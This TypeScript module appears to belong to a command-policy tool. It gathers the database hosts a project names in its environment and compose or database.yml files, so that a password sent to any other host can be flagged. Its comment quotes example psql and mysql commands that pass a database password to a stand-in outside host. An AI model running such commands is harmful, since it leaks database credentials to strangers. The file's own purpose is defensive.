import type { Facts } from '../../policy/types';

/**
 * The database hosts a project names for itself: the hosts of connection URLs and `*_HOST` settings in
 * its environment files (`.env`, `.env.local`, `.env.production`, …) and the `host:` of Rails'
 * `config/database.yml`. A database password sent by a database client to one of these goes where the
 * project keeps its databases; sent to any other host (`psql "postgresql://u:$PGPASSWORD@x.example/db"`,
 * `mysql -h x.example -p"$MYSQL_PWD"`) it reaches a stranger. Only host names are read, never a value.
 */

const ENV_FILES = ['.env', '.env.local', '.env.development', '.env.development.local', '.env.test', '.env.staging', '.env.production', '.env.production.local'];
const CONFIG_FILES = ['config/database.yml', 'docker-compose.yml', 'docker-compose.yaml', 'compose.yml', 'compose.yaml'];
const URL_HOST = /\b[a-z][\w+.-]*:\/\/(?:[^@\s'"/]*@)?([a-z0-9.-]+)(?::\d+)?/gi;
const HOST_SETTING = /^\s*(?:export\s+)?[A-Z0-9_]*(?:HOST|HOSTNAME|SERVER)\s*=\s*['"]?([a-z0-9.-]+)/gim;
const YAML_HOST = /^\s*host\s*:\s*['"]?([a-z0-9.-]+)/gim;

const seen = new WeakMap<Facts, Map<string, ReadonlySet<string>>>();

/** The database hosts named by the project around `cwd` (its folder and the workspace roots), lower-cased. */
export function projectDatabaseHosts(facts: Facts, cwd: string): ReadonlySet<string> {
  let byCwd = seen.get(facts);
  if (!byCwd) seen.set(facts, (byCwd = new Map()));
  const known = byCwd.get(cwd);
  if (known) return known;
  const hosts = new Set<string>();
  for (const root of new Set([cwd, ...facts.workspaceRoots])) {
    for (const f of ENV_FILES) {
      const text = facts.readFile(`${root}/${f}`)?.slice(0, 100_000) ?? '';
      for (const m of text.matchAll(URL_HOST)) hosts.add(m[1]!.toLowerCase());
      for (const m of text.matchAll(HOST_SETTING)) hosts.add(m[1]!.toLowerCase());
    }
    for (const f of CONFIG_FILES) {
      const text = facts.readFile(`${root}/${f}`)?.slice(0, 100_000) ?? '';
      for (const m of text.matchAll(YAML_HOST)) hosts.add(m[1]!.toLowerCase());
      for (const m of text.matchAll(URL_HOST)) hosts.add(m[1]!.toLowerCase());
    }
  }
  byCwd.set(cwd, hosts);
  return hosts;
}
